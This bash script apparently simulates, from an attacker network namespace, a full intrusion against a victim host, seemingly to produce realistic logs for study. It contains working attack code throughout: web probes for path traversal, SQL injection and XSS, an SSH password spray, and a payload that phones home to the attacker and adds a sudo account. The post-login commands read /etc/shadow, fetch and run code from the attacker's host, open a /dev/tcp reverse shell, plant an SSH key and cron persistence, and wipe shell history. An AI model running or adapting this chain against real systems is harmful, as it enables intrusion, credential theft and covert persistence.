# The attack, step by step, from one address. Sourced by record.sh.
# The programs' names in the User-Agent headers are what such scanners send; the requests themselves are curl's.

WEAK_PASSWORD=Herbst-2026    # invented, and in none of the logs
SPRAY_PASSWORDS=(123456 password Sommer-2026 "Welcome1!" changeme "$WEAK_PASSWORD")
SPRAY_USERS=(root admin deploy backup git oracle postgres mysql test guest ubuntu jenkins nagios ftpuser www tomcat)

probe() { # user agent, target as it shall be sent
  on_attacker curl -s -o /dev/null -m 3 --path-as-is -g -A "$1" "http://$VICTIM$2" || true
  sleep 0.3
}

probe_web() {
  local path
  for path in / /robots.txt /.git/config /.env /wp-login.php /phpmyadmin/ /server-status /admin/ /backup.zip /cgi-bin/test.cgi; do
    probe 'Mozilla/5.0 (compatible; Nikto/2.5.0)' "$path"
  done
  for path in '/../../../../etc/passwd' '/download?file=../../../../etc/passwd' '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd' \
    '/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow' '/index.php?page=php://filter/convert.base64-encode/resource=config'; do
    probe 'Mozilla/5.0 (compatible; Nikto/2.5.0)' "$path"
  done
  for path in "/products?id=1'" "/products?id=1%27%20OR%20%271%27%3D%271" '/products?id=1%20AND%201=1--' \
    '/products?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--' \
    '/products?id=-1+union+select+user,password+from+information_schema.tables--' \
    '/products?id=1%20AND%20SLEEP(5)' "/products?id=1;DROP%20TABLE%20users--"; do
    probe 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$path"
  done
  probe 'Mozilla/5.0' '/products?q=%3Cscript%3Ealert(1)%3C/script%3E'
}

try_password() { # user, password: succeeds when the door opens
  SSHPASS=$2 on_attacker sshpass -e ssh "${ATTACKER_SSH[@]}" -o NumberOfPasswordPrompts=1 "$1@$VICTIM" true </dev/null >/dev/null 2>&1
}
ATTACKER_SSH=(-F none -o PubkeyAuthentication=no -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR)

# One password over all names, then the next one; four connections at a time.
spray_passwords() {
  local password user waiting
  for password in "${SPRAY_PASSWORDS[@]}"; do
    waiting=()
    for user in "${SPRAY_USERS[@]}"; do
      try_password "$user" "$password" & waiting+=($!)
      [ "${#waiting[@]}" -lt 4 ] || { wait "${waiting[@]}" || true; waiting=(); }
    done
    [ "${#waiting[@]}" = 0 ] || wait "${waiting[@]}" || true
  done
}

# What runs on the victim: prints a little, reports to the attacker's server, and as root adds an account.
make_payload() {
  cat <<PAYLOAD
#!/bin/sh
id -un
uname -n
if [ "\$(id -u)" = 0 ] && ! id sysmaint >/dev/null 2>&1; then
  /usr/sbin/useradd -m -s /bin/bash -G sudo -c 'System maintenance' sysmaint
fi
curl -fsS -m 3 -o /dev/null "http://$ATTACKER:8000/upd?host=\$(uname -n)&user=\$(id -un)"
PAYLOAD
}

use_the_account() {
  printf 'id\nexit\n' | timeout 150 nsenter --net=/run/netns/attacker -- nc -l -q 3 "$ATTACKER" 4444 >/dev/null &
  type_commands | SSHPASS=$WEAK_PASSWORD on_attacker sshpass -e ssh "${ATTACKER_SSH[@]}" -tt "deploy@$VICTIM" >/dev/null 2>&1 || true
}

type_line() { printf '%s\n' "$1"; sleep "${2:-1}"; }

# Typed into the remote shell, one line after the other, at a person's pace.
type_commands() {
  sleep 2
  type_line 'whoami'; type_line 'id'; type_line 'uname -a'; type_line 'hostname'
  type_line 'cat /etc/passwd'; type_line 'cat /etc/os-release'
  type_line 'ss -tlnp'; type_line 'ps aux'; type_line 'w'; type_line 'last -n 5'
  type_line 'ls -la /home'; type_line 'find /usr/bin -perm -4000 -type f' 2
  type_line 'sudo -l' 2
  type_line 'cat /etc/shadow'
  type_line "printf '%s\n' '$WEAK_PASSWORD' | sudo -S /bin/bash" 3
  type_line 'mkdir -p /tmp/.cache'
  type_line "curl -fsS -o /tmp/.cache/upd http://$ATTACKER:8000/upd" 2
  type_line 'chmod +x /tmp/.cache/upd'; type_line '/tmp/.cache/upd' 2
  type_line "bash -c 'bash -i >& /dev/tcp/$ATTACKER/4444 0>&1'" 3
  type_line "echo '$(cat "$STAGE/attacker_key.pub")' >> ~/.ssh/authorized_keys"
  type_line "echo '*/10 * * * * /tmp/.cache/upd' | crontab -" 2
  type_line "echo '* * * * * root /tmp/.cache/upd' > /tmp/.cache/c"
  type_line 'sudo -n install -m 644 /tmp/.cache/c /etc/cron.d/php-sessions' 2
  sleep $((70 - 10#$(date +%S)))            # cron has run the new entry as root, ten seconds into the next minute
  type_line 'id sysmaint'; type_line 'rm -f /tmp/.cache/c'
  type_line 'ln -sf /dev/null ~/.bash_history'; type_line 'history -c'
  type_line 'exit' 0
}
